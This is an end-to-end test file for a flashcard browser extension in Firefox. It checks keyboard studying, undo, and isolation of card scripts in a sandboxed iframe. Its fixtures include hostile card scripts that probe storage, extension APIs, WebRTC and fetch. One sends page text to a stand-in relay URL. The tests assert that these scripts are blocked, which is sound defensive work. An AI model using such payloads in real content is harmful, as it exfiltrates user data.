// Studying in Firefox: the card runs in card-page.html inside the popup's sandboxed iframe. The keyboard works as
// in Chromium, and a hostile card's scripts run but reach neither the collection, the extension, the popup nor the
// network (test/e2e/study.e2e.test.ts holds the same checks for Chromium).
import { createSocket } from "node:dgram";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import type { Page } from "puppeteer-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  clickButton,
  type FirefoxExtensionBrowser,
  fill,
  launchFirefoxWithExtension,
  screenshot,
  testFolder,
  textOf,
  textsOf,
} from "./browser";

let firefox: FirefoxExtensionBrowser;
let server: Server;
let port = 0;
const hits: string[] = [];

beforeAll(async () => {
  // A stand-in for anything on the network, which records every request reaching it: a card must never get here.
  server = createServer((request, response) => {
    hits.push(request.url ?? "");
    response.writeHead(200, { "access-control-allow-origin": "*" });
    response.end("ok");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  port = (server.address() as AddressInfo).port;
  firefox = await launchFirefoxWithExtension(path.join(testFolder("firefox-study"), "profile"));
});

afterAll(async () => {
  await firefox?.close();
  await new Promise((resolve) => server?.close(resolve));
});

async function addNote(front: string, back: string, deck = "Default") {
  const page = await firefox.open("options.html#add");
  await page.select("select[name=deck]", String(await deckId(page, deck)));
  await fill(page, "textarea[name=field-0]", front);
  await fill(page, "textarea[name=field-1]", back);
  await clickButton(page, "Add");
  await expect.poll(() => textOf(page, "[role=status]")).toBe("Added.");
  await page.close();
}

async function deckId(page: Page, name: string): Promise<string> {
  await expect.poll(() => textsOf(page, "select[name=deck] option")).toContain(name);
  return page.evaluate(
    (name) =>
      [...document.querySelectorAll<HTMLOptionElement>("select[name=deck] option")].find((o) => o.textContent === name)
        ?.value ?? "",
    name,
  );
}

async function addDeck(name: string) {
  const page = await firefox.open("options.html#decks");
  await fill(page, "input[name=newDeck]", name);
  await clickButton(page, "Create deck");
  await expect.poll(() => page.$$eval(`tr[data-deck='${name}']`, (rows) => rows.length)).toBe(1);
  await page.close();
}

// The card's document is out of the driver's reach (puppeteer over WebDriver BiDi does not follow moz-extension://
// frames), as it is out of the popup's: the tests read what the popup shows around it, and the screenshots show it.
const counts = (popup: Page) => textOf(popup, "[data-testid=study-counts]");
const showAnswerButton = (popup: Page) => popup.$$eval("button.show-answer", (b) => b.length);

/** The number of review-log rows, read from the collection's IndexedDB in an extension page. */
function reviews(page: Page): Promise<number> {
  return page.evaluate(async () => {
    const open = indexedDB.open("collection:default");
    const db: IDBDatabase = await new Promise((resolve, reject) => {
      open.onsuccess = () => resolve(open.result);
      open.onerror = () => reject(open.error);
    });
    const blocks: { rows: unknown[] }[] = await new Promise((resolve) => {
      const request = db.transaction("revlogBlocks").objectStore("revlogBlocks").getAll();
      request.onsuccess = () => resolve(request.result);
    });
    db.close();
    return blocks.reduce((n, block) => n + block.rows.length, 0);
  });
}

async function openPopup(): Promise<Page> {
  const popup = await firefox.open("popup.html");
  await popup.setViewport({ width: 480, height: 592 });
  return popup;
}

describe("studying in Firefox", () => {
  it("studies two cards with the keyboard, and undo takes the last answer back", async () => {
    await addDeck("Numbers");
    await addNote("uno", "one", "Numbers");
    await addNote("dos", "two", "Numbers");
    const popup = await openPopup();
    await expect.poll(() => textsOf(popup, "tr[data-deck='Numbers'] td")).toEqual(["Numbers", "2", "0", "0"]);
    await clickButton(popup, "Numbers");
    await expect.poll(() => showAnswerButton(popup), { timeout: 15_000 }).toBe(1);
    expect(await counts(popup)).toBe("200");
    await screenshot(popup, "study-question", { docs: true });
    await popup.keyboard.press(" ");
    await expect.poll(() => textOf(popup, "[data-ease='3'] .interval")).toBe("10m");
    expect(await textOf(popup, "[data-ease='1'] .interval")).toBe("1m");
    await screenshot(popup, "study-answer", { docs: true });
    await popup.keyboard.press("3");
    await expect.poll(() => showAnswerButton(popup)).toBe(1);
    await expect.poll(() => counts(popup)).toBe("110");
    await popup.keyboard.press(" ");
    await expect.poll(() => textOf(popup, "[data-ease='1'] .interval")).toBe("1m");
    await popup.keyboard.press("1");
    await expect.poll(() => reviews(popup)).toBe(2);
    await popup.keyboard.press("u");
    await expect.poll(() => textOf(popup, "[role=status]")).toBe("Answer undone.");
    expect(await reviews(popup)).toBe(1);
    await popup.keyboard.press("Escape");
    await expect.poll(() => textsOf(popup, "tr[data-deck='Numbers'] td")).toEqual(["Numbers", "1", "1", "0"]);
    await popup.close();
  });

  it("runs a hostile card's scripts in the sandbox, where they reach no storage, no extension API, no popup and no network", async () => {
    const udp = createSocket("udp4");
    const packets: number[] = [];
    udp.on("message", (message) => packets.push(message.length));
    await new Promise<void>((resolve) => udp.bind(0, "127.0.0.1", () => resolve()));
    const relay = `http://127.0.0.1:${port}`;
    // The card's script tries each way out, then tells the study screen what it found the only way a card can:
    // with a study key. Space (show the answer) when every way was closed; Escape (leave) when one was open.
    const script = [
      "<script>",
      "const open = [];",
      "try { indexedDB.open('collection:default'); open.push('indexedDB'); } catch (e) {}",
      "try { localStorage.setItem('x', '1'); open.push('localStorage'); } catch (e) {}",
      "if (typeof browser !== 'undefined' || typeof chrome !== 'undefined') open.push('extension API');",
      "try { String(parent.document.title); open.push('popup'); } catch (e) {}",
      `try { new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udp.address().port}' }] }); open.push('WebRTC'); } catch (e) {}`,
      `fetch('${relay}/fetch').then(() => open.push('fetch'), () => {}).finally(() => {`,
      "  const key = open.length === 0 ? ' ' : 'Escape';",
      "  parent.postMessage({ type: 'key', key, ctrl: false, meta: false, alt: false }, '*');",
      "});",
      "</script>",
    ].join("");
    await addDeck("Hostile");
    await addNote(`Hostile ${script}<img src="${relay}/pixel.png">`, "back", "Hostile");
    const before = await reviews(await firefox.open("options.html#decks"));

    const popup = await openPopup();
    await clickButton(popup, "Hostile");
    // Space came: the script ran, and found every way out closed.
    await expect.poll(() => textOf(popup, "[data-ease='3'] .interval"), { timeout: 15_000 }).toBe("10m");
    expect(await showAnswerButton(popup)).toBe(0);
    await new Promise((resolve) => setTimeout(resolve, 1000));
    expect(hits).toEqual([]);
    expect(packets).toEqual([]);
    expect(await reviews(popup)).toBe(before);
    udp.close();
    await popup.close();
  });

  it("a card that sends its frame to an outside address reaches nothing, and the card page stays", async () => {
    const relay = `http://127.0.0.1:${port}`;
    await addDeck("Leaky");
    await addNote(`moving <script>location.href = '${relay}/leak?' + document.body.innerText;</script>`, "b", "Leaky");
    const popup = await openPopup();
    await clickButton(popup, "Leaky");
    await expect.poll(() => showAnswerButton(popup), { timeout: 15_000 }).toBe(1);
    // Firefox refuses the navigation where it starts (the popup's frame-src 'self'): no request, no second load.
    await new Promise((resolve) => setTimeout(resolve, 2000));
    expect(hits).toEqual([]);
    await popup.keyboard.press(" ");
    await expect.poll(() => textOf(popup, "[data-ease='3'] .interval")).toBe("10m");
    await popup.close();
  });

  it("the card page opened on its own, outside the sandbox, runs no card", async () => {
    const page = await firefox.open("card-page.html");
    await expect
      .poll(() => textOf(page, "body"))
      .toMatch(/shows cards inside the study screen of Flashcard Relay only/);
    await page.close();
  });
});
